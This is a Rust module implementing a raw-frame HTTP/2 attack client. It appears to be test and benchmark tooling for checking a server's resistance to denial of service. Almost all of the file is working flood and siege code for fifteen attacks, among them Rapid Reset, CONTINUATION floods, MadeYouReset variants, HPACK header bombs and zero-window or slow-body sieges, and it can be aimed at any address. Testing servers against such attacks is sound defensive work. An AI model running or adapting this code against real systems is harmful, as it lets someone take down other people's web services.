//! A client that abuses HTTP/2 with frames written by hand. It can mount every known denial of service.
//!
//! It depends on no other module: the tests use it on a listener in their process, the benchmark on the release binary.

use std::io;
use std::net::SocketAddr;
use std::sync::Mutex;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::timeout;

/// A kind of attack on a peer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Streams opened and reset at once (CVE-2023-44487).
    RapidReset,
    /// A head that never ends (CVE-2024-27316).
    Continuations,
    /// DATA without data (CVE-2019-9518).
    EmptyData,
    /// Heads without a field, one after another.
    EmptyHeads,
    /// PING (CVE-2019-9512).
    Pings,
    /// SETTINGS (CVE-2019-9515).
    Settings,
    /// Streams reshuffled (CVE-2019-9513).
    Priorities,
    /// Streams that the server must reset, through a window update of zero (CVE-2025-8671).
    MadeResetByWindow,
    /// Streams that the server must reset, through a window beyond its limit.
    MadeResetByOverflow,
    /// Streams that the server must reset, through a dependency on themselves.
    MadeResetByPriority,
    /// Streams that the server must reset, through data after their end.
    MadeResetByData,
    /// Heads that are short on the wire and long once decoded, with no window for the answers (CVE-2016-6581).
    HeaderBombs,
    /// Requests held forever with pings, with no window for their answers (CVE-2019-9517).
    ZeroWindow,
    /// Thousands of streams with bodies that never arrive.
    ManyStreams,
    /// Bodies that arrive a byte at a time, on every permitted stream.
    SlowBodies,
}

pub(crate) const ATTACKS: [Attack; 15] = [
    Attack::RapidReset,
    Attack::Continuations,
    Attack::EmptyData,
    Attack::EmptyHeads,
    Attack::Pings,
    Attack::Settings,
    Attack::Priorities,
    Attack::MadeResetByWindow,
    Attack::MadeResetByOverflow,
    Attack::MadeResetByPriority,
    Attack::MadeResetByData,
    Attack::HeaderBombs,
    Attack::ZeroWindow,
    Attack::ManyStreams,
    Attack::SlowBodies,
];

impl Attack {
    /// Whether the attack is a flood, after which a peer should close the connection, or a siege. A siege is waited
    /// out: its streams are refused or reset, and hold no more than one connection may hold.
    pub(crate) fn is_flood(self) -> bool {
        !matches!(self, Self::ZeroWindow | Self::SlowBodies)
    }
}

/// The result of an attack.
#[derive(Debug, Default, Clone, Copy)]
pub(crate) struct Report {
    /// Frames sent.
    pub(crate) frames: u64,
    /// Whether the peer closed the connection.
    pub(crate) closed: bool,
}

/// Header fields that pass every check a client without a secret can pass.
pub(crate) type Fields<'a> = &'a [(&'a str, String)];

/// The client's connection preface.
pub(crate) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub(crate) const DATA: u8 = 0;
pub(crate) const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
pub(crate) const END_STREAM: u8 = 1;
pub(crate) const END_HEADERS: u8 = 4;

/// Attacks on one connection, over a shared uplink, until the peer closes the connection or this time is over.
pub(crate) async fn attack(
    uplink: &Uplink,
    kind: Attack,
    from: &str,
    to: SocketAddr,
    fields: Fields<'_>,
    time: Duration,
) -> io::Result<Report> {
    let socket = TcpSocket::new_v4()?;
    let from = from.parse().expect("an address");
    socket.bind(SocketAddr::new(from, 0))?;
    let mut connection = Abuser::begin(socket.connect(to).await?, kind).await?;
    let deadline = Instant::now() + time;
    let mut report = Report::default();
    let mut stream = 1;
    while Instant::now() < deadline {
        let (frames, wire) = round(kind, &mut stream, fields);
        let pause = if kind.is_flood() {
            Duration::ZERO
        } else {
            Duration::from_millis(200)
        };
        let sending = async {
            uplink.carries(wire.len()).await;
            connection.send(&wire, pause).await
        };
        match timeout(deadline - Instant::now(), sending).await {
            Ok(true) => report.frames += frames,
            Ok(false) => {
                report.closed = true;
                break;
            }
            Err(_) => break,
        }
    }
    Ok(report)
}

/// An uplink with a fixed capacity.
pub(crate) struct Uplink {
    bytes_per_second: u64,
    /// Until when the capacity is used up.
    taken: Mutex<Instant>,
}

impl Uplink {
    pub(crate) fn of(bytes_per_second: u64) -> Self {
        Self {
            bytes_per_second,
            taken: Mutex::new(Instant::now()),
        }
    }

    /// Waits until these many bytes can be sent.
    async fn carries(&self, bytes: usize) {
        let until = {
            let mut taken = self.taken.lock().expect("nobody panicked");
            let begun = (*taken).max(Instant::now());
            let nanos = bytes as u64 * 1_000_000_000 / self.bytes_per_second;
            *taken = begun + Duration::from_nanos(nanos);
            begun
        };
        tokio::time::sleep_until(until.into()).await;
    }
}

/// One round of an attack: many frames in one write.
fn round(kind: Attack, stream: &mut u32, fields: Fields<'_>) -> (u64, Vec<u8>) {
    let mut wire = Vec::new();
    let mut frames = 0;
    let mut put = |kind, flags, stream, payload: &[u8]| {
        frames += 1;
        wire.extend(frame(kind, flags, stream, payload));
    };
    let ended = END_HEADERS | END_STREAM;
    for _ in 0..if kind.is_flood() { 64 } else { 10 } {
        let new = *stream;
        match kind {
            Attack::RapidReset => {
                put(HEADERS, ended, new, &head(fields));
                put(RST_STREAM, 0, new, &8_u32.to_be_bytes());
            }
            Attack::Continuations => {
                if new == 1 {
                    put(HEADERS, END_STREAM, new, &head(fields));
                }
                put(CONTINUATION, 0, 1, &literal("x", &"y".repeat(100)));
            }
            Attack::EmptyData => {
                if new == 1 {
                    put(HEADERS, END_HEADERS, new, &head(fields));
                }
                put(DATA, 0, 1, &[]);
            }
            Attack::EmptyHeads => put(HEADERS, ended, new, &[]),
            Attack::Settings => put(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
            Attack::Priorities => put(PRIORITY, 0, new, &[0, 0, 0, 0, 1]),
            Attack::MadeResetByWindow => {
                put(HEADERS, END_HEADERS, new, &head(fields));
                put(WINDOW_UPDATE, 0, new, &0_u32.to_be_bytes());
            }
            Attack::MadeResetByOverflow => {
                put(HEADERS, END_HEADERS, new, &head(fields));
                put(WINDOW_UPDATE, 0, new, &0x7FFF_FFFF_u32.to_be_bytes());
            }
            Attack::MadeResetByPriority => {
                put(HEADERS, END_HEADERS, new, &head(fields));
                put(PRIORITY, 0, new, &[&new.to_be_bytes()[..], &[1]].concat());
            }
            Attack::MadeResetByData => {
                put(HEADERS, ended, new, &head(fields));
                put(DATA, 0, new, b"{}");
            }
            Attack::HeaderBombs => {
                let mut bomb = head(fields);
                if new == 1 {
                    // Into the dynamic table, from which one byte repeats the field.
                    bomb.push(0x40);
                    bomb.extend(text("x-bomb"));
                    bomb.extend(text(&"b".repeat(3_900)));
                }
                bomb.extend([0xBE; 2_000]);
                put(HEADERS, ended, new, &bomb);
            }
            Attack::ZeroWindow if new < 200 => put(HEADERS, ended, new, &head(fields)),
            Attack::Pings | Attack::ZeroWindow => put(PING, 0, 0, &[7; 8]),
            Attack::ManyStreams => put(HEADERS, END_HEADERS, new, &head(fields)),
            Attack::SlowBodies => {
                if new < 200 {
                    put(HEADERS, END_HEADERS, new, &head(fields));
                }
                put(DATA, 0, (new % 200) | 1, b" ");
            }
        }
        *stream = stream.wrapping_add(2);
    }
    (frames, wire)
}

/// The connection. The peer's bytes are read and discarded.
struct Abuser(TcpStream);

impl Abuser {
    async fn begin(mut tcp: TcpStream, kind: Attack) -> io::Result<Self> {
        tcp.set_nodelay(true)?;
        let window: u32 = match kind {
            Attack::ZeroWindow | Attack::HeaderBombs => 0,
            _ => 65_535,
        };
        let settings = [&[0, 4][..], &window.to_be_bytes()].concat();
        tcp.write_all(PREFACE).await?;
        tcp.write_all(&frame(SETTINGS, 0, 0, &settings)).await?;
        tcp.write_all(&frame(SETTINGS, 1, 0, &[])).await?;
        Ok(Self(tcp))
    }

    /// Writes, and reads the available bytes meanwhile and for a pause after. Returns whether the connection is still
    /// open.
    async fn send(&mut self, wire: &[u8], pause: Duration) -> bool {
        let (mut read, mut write) = self.0.split();
        let writing = async {
            let written = write.write_all(wire).await;
            tokio::time::sleep(pause).await;
            tokio::task::yield_now().await;
            written.is_ok()
        };
        let reading = async {
            let mut answers = vec![0; 16 * 1024];
            while let Ok(1..) = read.read(&mut answers).await {}
        };
        tokio::select! {
            biased;
            () = reading => false,
            open = writing => open,
        }
    }
}

pub(crate) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a frame").to_be_bytes();
    let stream = stream.to_be_bytes();
    [&length[1..], &[kind, flags], &stream, payload].concat()
}

/// A head in HPACK without any compression.
pub(crate) fn head(fields: Fields<'_>) -> Vec<u8> {
    // The scheme `http`, from the static table.
    let mut head = vec![0x86];
    for (name, value) in fields {
        head.extend(literal(name, value));
    }
    head
}

fn literal(name: &str, value: &str) -> Vec<u8> {
    [&[0][..], &text(name), &text(value)].concat()
}

/// A text behind its length, which takes more than seven bits from 127 on.
fn text(text: &str) -> Vec<u8> {
    let mut bytes = Vec::new();
    let mut length = text.len();
    if length < 127 {
        bytes.push(u8::try_from(length).expect("it is small"));
    } else {
        bytes.push(127);
        length -= 127;
        while length >= 128 {
            bytes.push(u8::try_from(length % 128).expect("it is small") | 128);
            length /= 128;
        }
        bytes.push(u8::try_from(length).expect("it is small"));
    }
    bytes.extend(text.as_bytes());
    bytes
}
